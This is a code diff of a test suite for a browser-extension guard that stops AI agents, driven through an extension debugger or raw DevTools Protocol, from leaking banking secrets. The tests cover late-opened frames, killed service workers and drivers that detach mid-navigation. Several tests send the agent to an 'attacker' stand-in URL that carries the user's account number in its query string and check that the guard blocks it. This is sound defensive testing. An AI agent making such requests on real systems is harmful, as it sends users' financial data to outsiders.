@@ -1,7 +1,8 @@
 // An agent extension that attaches its debugger once, as products do: it keeps its tab however often a navigation is held.
 import assert from 'node:assert/strict';
 import { after, before, describe, test } from 'node:test';
-import { debuggerAgentHands } from '../agents/extension-agent.mjs';
+import { agentFolder, debuggerAgentHands } from '../agents/extension-agent.mjs';
+import { rawCdpHands } from '../agents/raw-cdp.mjs';
 import { readBalance, signInToBank, until } from '../agents/tasks.mjs';
 import { SECRETS, sharedBrowser } from '../attacks/attempt.mjs';
 import { leaked } from '../sites/leaks.mjs';
@@ -11,16 +12,30 @@ import { extension } from './with-guard.mjs';
 const [DESK, WIDGET] = ['desk.example', 'widget.example'];
 const NUMBER = PERSON.account.replaceAll(' ', '');
 const answer = (body) => ({ status: 200, headers: { 'content-type': 'text/html; charset=utf-8' }, body });
-const late = `<script>setTimeout(()=>{const f=document.createElement('iframe');f.src='http://${WIDGET}/';document.body.append(f)},1500)</script>`;
+/** Where a page puts a frame that it opens late. */
+const PLACES = {
+  '/late': 'document.body',
+  '/hidden': "document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' })",
+};
+const late = (place) =>
+  `<script>setTimeout(()=>{const f=document.createElement('iframe');f.src='http://${WIDGET}/';(${place}).append(f)},1500)</script>`;
 let seen = 0;
 const extra = {
   [DESK]: ({ path }) =>
-    answer(`<!doctype html><title>Desk</title><p>Front desk ${path}</p>${path === '/late' ? late : ''}`),
+    answer(`<!doctype html><title>Desk</title><p>Front desk ${path}</p>${PLACES[path] ? late(PLACES[path]) : ''}`),
   [WIDGET]: () => {
     seen += 1;
     return answer('<!doctype html><p>Widget');
   },
 };
+
+/** Our worker, with a debugger of the test's on it. */
+async function workerOf({ send, id }) {
+  const { targetInfos } = await send('Target.getTargets');
+  const { targetId } = targetInfos.find(({ type, url }) => type === 'service_worker' && url.includes(id));
+  const { sessionId } = await send('Target.attachToTarget', { targetId, flatten: true });
+  return { targetId, sessionId };
+}
 
 describe('an agent by an extension’s debugger', () => {
   const shared = sharedBrowser(debuggerAgentHands, { extension, extra });
@@ -56,14 +71,15 @@ describe('an agent by an extension’s debugger', () => {
     assert.equal(await losses(), first, 'it lost its tab again');
   });
 
-  test('keeps it where a page opens a frame of another site late, and the frame comes', {
-    timeout: 60_000,
-  }, async () => {
-    seen = 0;
-    await scene.hands.goto(`http://${DESK}/late`);
-    await until(async () => seen > 0, 'the frame', 10_000);
-    assert.equal(await losses(), first, 'it lost its tab to the frame');
-  });
+  for (const path of Object.keys(PLACES))
+    test(`keeps it where a page opens a frame of another site at ${path}, and the frame comes`, {
+      timeout: 60_000,
+    }, async () => {
+      seen = 0;
+      await scene.hands.goto(`http://${DESK}${path}`);
+      await until(async () => seen > 0, 'the frame', 10_000);
+      assert.equal(await losses(), first, 'it lost its tab to the frame');
+    });
 
   test('reads why its navigation was stopped, sends nothing, and goes on', { timeout: 60_000 }, async () => {
     await scene.hands.goto(urlOf('attacker', `/c?d=${NUMBER}`));
@@ -82,4 +98,62 @@ describe('an agent by an extension’s debugger', () => {
     await scene.hands.run('history.back()');
     await shows('Front desk /one');
   });
+
+  test('is judged after the worker died over what waits, and goes on', { timeout: 60_000 }, async () => {
+    await die(`http://${DESK}/after`);
+    await shows('Front desk /after');
+    await die(urlOf('attacker', `/c?d=${NUMBER}`));
+    await shows('Stopped by Interlock');
+    assert.deepEqual(leaked(scene.sites.collector.records, SECRETS), []);
+  });
+
+  /** The worker stands still while a document comes to wait, and dies; something wakes the next one. */
+  async function die(url) {
+    const { browser } = scene.hands;
+    const { targetId, sessionId } = await workerOf(browser);
+    await browser.send('Debugger.enable', {}, sessionId);
+    await browser.send('Debugger.pause', {}, sessionId);
+    const waits = async () => {
+      const { targetInfos } = await browser.send('Target.getTargets');
+      return targetInfos.some((target) => target.url.startsWith('data:') && target.url.endsWith(`#${url}`));
+    };
+    const going = scene.hands.goto(url);
+    await until(waits, 'the page where it waits');
+    await browser.send('Target.closeTarget', { targetId });
+    // The next one is not to be driven from outside.
+    await browser.send('Target.detachFromTarget', { sessionId }).catch(() => undefined);
+    await going;
+    assert.ok(await waits(), 'nothing waits');
+    await browser.send('Target.createTarget', { url: 'about:blank' });
+  }
+});
+
+describe('whoever drives from outside and leaves just as its navigation is held', () => {
+  for (const beside of [false, true])
+    test(`changes nothing for others, ${beside ? 'at another tab, beside an agent’s extension' : 'by its own tab'}`, {
+      timeout: 60_000,
+    }, async () => {
+      const others = beside ? [agentFolder()] : [];
+      const shared = sharedBrowser((options) => rawCdpHands({ ...options, others }), { extension, extra });
+      try {
+        const { hands, world, memory } = await shared.scene();
+        await signInToBank(hands, world);
+        await readBalance(hands, memory);
+        const leaver = beside ? await (await hands.openTab(`http://${DESK}/quiet`)).attach() : hands;
+        await hands.wait(4_000);
+        // It doesn't wait for what it asked for.
+        void hands.goto(urlOf('shop')).catch(() => undefined);
+        await leaver.detach();
+        await hands.wait(1_500);
+        const worker = await workerOf(hands);
+        const { result } = await hands.send(
+          'Runtime.evaluate',
+          { expression: "chrome.storage.local.get('aside')", awaitPromise: true, returnByValue: true },
+          worker.sessionId,
+        );
+        assert.deepEqual(result.value, {});
+      } finally {
+        await shared.close();
+      }
+    });
 });
